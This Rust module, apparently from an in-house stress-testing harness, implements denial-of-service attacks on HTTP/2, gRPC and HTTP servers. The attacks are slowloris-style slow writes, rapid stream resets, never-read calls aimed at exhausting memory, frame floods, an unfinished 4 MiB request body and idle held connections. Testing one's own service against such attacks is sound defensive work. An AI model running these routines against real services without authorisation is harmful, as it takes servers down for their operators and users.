//! Attacks with connections: bytes as no library would send them.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::frames::{self, Kind};
use super::target::Target;

/// Connects, and sends small writes at once.
pub(super) async fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let stream = TcpStream::connect(address).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Connects with the preface of HTTP/2.
async fn greet(target: &Target) -> std::io::Result<TcpStream> {
    let mut stream = connect(target.grpc).await?;
    target.gains.count("connections");
    stream.write_all(frames::PREFACE).await?;
    Ok(stream)
}

async fn until_closed(mut stream: TcpStream, target: &Target) -> std::io::Result<()> {
    let mut dropped = vec![0; 16 * 1024];
    while stream.read(&mut dropped).await? > 0 {}
    target.gains.count("closed");
    Ok(())
}

pub(super) async fn idle(target: &Target) -> std::io::Result<()> {
    let stream = connect(target.grpc).await?;
    target.gains.count("connections");
    until_closed(stream, target).await
}

pub(super) async fn slow(target: &Target) -> std::io::Result<()> {
    let mut stream = greet(target).await?;
    stream.write_all(&frames::headers(1)).await?;
    for byte in small_call(1) {
        stream
            .write_all(&frames::frame(Kind::Data, 0, 1, &[byte]))
            .await?;
        sleep(Duration::from_secs(1)).await;
    }
    until_closed(stream, target).await
}

/// Calls that are reset as soon as the server has begun with them.
pub(super) async fn resets(target: &Target) -> std::io::Result<()> {
    let mut stream = greet(target).await?;
    let body = small_call(1);
    let mut dropped = vec![0; 16 * 1024];
    for number in 0.. {
        let id = 2 * number + 1;
        stream
            .write_all(&[frames::headers(id), frames::end(id, &body)].concat())
            .await?;
        // Long enough to be read, and for most too short to be answered.
        tokio::task::yield_now().await;
        stream
            .write_all(&frames::frame(Kind::Reset, 0, id, &8_u32.to_be_bytes()))
            .await?;
        target.gains.count("resets");
        while let Ok(length) = stream.try_read(&mut dropped) {
            if length == 0 {
                target.gains.count("closed");
                return Ok(());
            }
        }
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

pub(super) async fn no_read(target: &Target) -> std::io::Result<()> {
    let mut stream = greet(target).await?;
    let body = small_call(50);
    // Calls of all connections at one moment would be an attack of another kind.
    sleep(Duration::from_millis(fastrand::u64(..50))).await;
    for number in 0..100_000 {
        let id = 2 * number + 1;
        stream
            .write_all(&[frames::headers(id), frames::end(id, &body)].concat())
            .await?;
        target.gains.count("calls");
        // The attack is on memory: as many calls of a client that reads would keep Redis busy, too.
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

/// Frames without a pause.
pub(super) async fn flood(target: &Target, next: impl Fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    let mut stream = greet(target).await?;
    for number in 0..1_000_000_000 {
        stream.write_all(&next(number)).await?;
        target.gains.count("frames");
    }
    Ok(())
}

pub(super) async fn stop_in_body(target: &Target) -> std::io::Result<()> {
    const LENGTH: usize = 4 << 20;
    let mut stream = connect(target.http).await?;
    let head = format!("POST /json HTTP/1.1\r\nhost: x\r\ncontent-length: {LENGTH}\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b' '; LENGTH - 1]).await?;
    target.gains.count("bodies");
    until_closed(stream, target).await
}

pub(super) async fn read_nothing(target: &Target) -> std::io::Result<()> {
    let mut stream = connect(target.api).await?;
    let request = format!(
        "GET {} HTTP/1.1\r\nhost: {}\r\n\r\n",
        target.workflow, target.api
    );
    stream.write_all(request.as_bytes()).await?;
    target.gains.count("requests");
    // Nothing is read, so only an attempt to write shows that the server has gone.
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.write_all(b" ").await?;
    }
}

fn small_call(descriptors: usize) -> Vec<u8> {
    let descriptors = (0..descriptors).map(|number| ("key", number.to_string()));
    frames::message(false, &frames::request("bench", descriptors, 1))
}
